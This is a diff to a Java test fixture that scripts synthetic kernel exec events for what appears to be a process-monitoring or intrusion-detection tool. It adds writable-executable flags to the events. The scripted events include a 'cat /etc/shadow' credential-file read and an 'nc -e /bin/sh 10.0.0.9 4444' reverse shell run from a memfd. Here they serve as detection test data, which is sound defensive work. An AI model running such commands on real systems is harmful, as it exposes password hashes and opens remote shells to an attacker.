@@ -60,9 +60,11 @@ final class ScriptedSession {
 
     static List<RawEvent> records() {
         KernelRecords k = new KernelRecords();
+        // Exec records carry what the kernel decided about the exe (FLAG_EXE_*): writable, memfd, overlay layer.
         // A shell (pid 100) is born: exec, then it changes to /root.
         k.record(RawEvent.PROC_EXEC, 100, 100, "bash")
                 .ppid(1)
+                .flags(RawEvent.FLAG_EXE_WRITABLE)
                 .string("/usr/bin/bash")
                 .strings("bash", "-c", "work")
                 .strings("HOME=/root", "PATH=/usr/bin:/bin")
@@ -76,6 +78,7 @@ final class ScriptedSession {
                 .add();
         k.record(RawEvent.PROC_EXEC, 101, 101, "cat")
                 .ppid(100)
+                .flags(RawEvent.FLAG_EXE_WRITABLE)
                 .string("/bin/cat")
                 .strings("cat", "/etc/shadow")
                 .strings("HOME=/root")
@@ -268,6 +271,7 @@ final class ScriptedSession {
                 .add();
         k.record(RawEvent.PROC_EXEC, 400, 400, "sshd")
                 .ppid(100)
+                .flags(RawEvent.FLAG_EXE_WRITABLE)
                 .string("/usr/sbin/sshd")
                 .strings("sshd", "-D")
                 .strings()
@@ -279,6 +283,7 @@ final class ScriptedSession {
                 .add();
         k.record(RawEvent.PROC_EXEC, 401, 401, "sh")
                 .ppid(400)
+                .flags(RawEvent.FLAG_EXE_WRITABLE)
                 .string("/bin/sh")
                 .strings("sh", "-i")
                 .strings("TERM=xterm")
@@ -290,6 +295,7 @@ final class ScriptedSession {
                 .add();
         k.record(RawEvent.PROC_EXEC, 402, 402, "python3")
                 .ppid(401)
+                .flags(RawEvent.FLAG_EXE_WRITABLE)
                 .string("python3")
                 .strings("python3", "x.py")
                 .strings("TERM=xterm")
@@ -305,7 +311,7 @@ final class ScriptedSession {
                 .add();
         k.record(RawEvent.PROC_EXEC, 403, 403, "nc")
                 .ppid(402)
-                .flags(RawEvent.FLAG_EXE_MEMFD | RawEvent.FLAG_EXE_OVERLAY)
+                .flags(RawEvent.FLAG_EXE_MEMFD | RawEvent.FLAG_EXE_OVERLAY | RawEvent.FLAG_EXE_WRITABLE)
                 .string("/proc/self/fd/3")
                 .strings("nc", "-e", "/bin/sh", "10.0.0.9", "4444")
                 .strings()
@@ -352,6 +358,7 @@ final class ScriptedSession {
                 .add();
         k.record(RawEvent.PROC_EXEC, 200, 200, "sh")
                 .ppid(100)
+                .flags(RawEvent.FLAG_EXE_WRITABLE)
                 .cgroup(CONTAINER_CGROUP)
                 .string("/bin/sh")
                 .strings("sh")
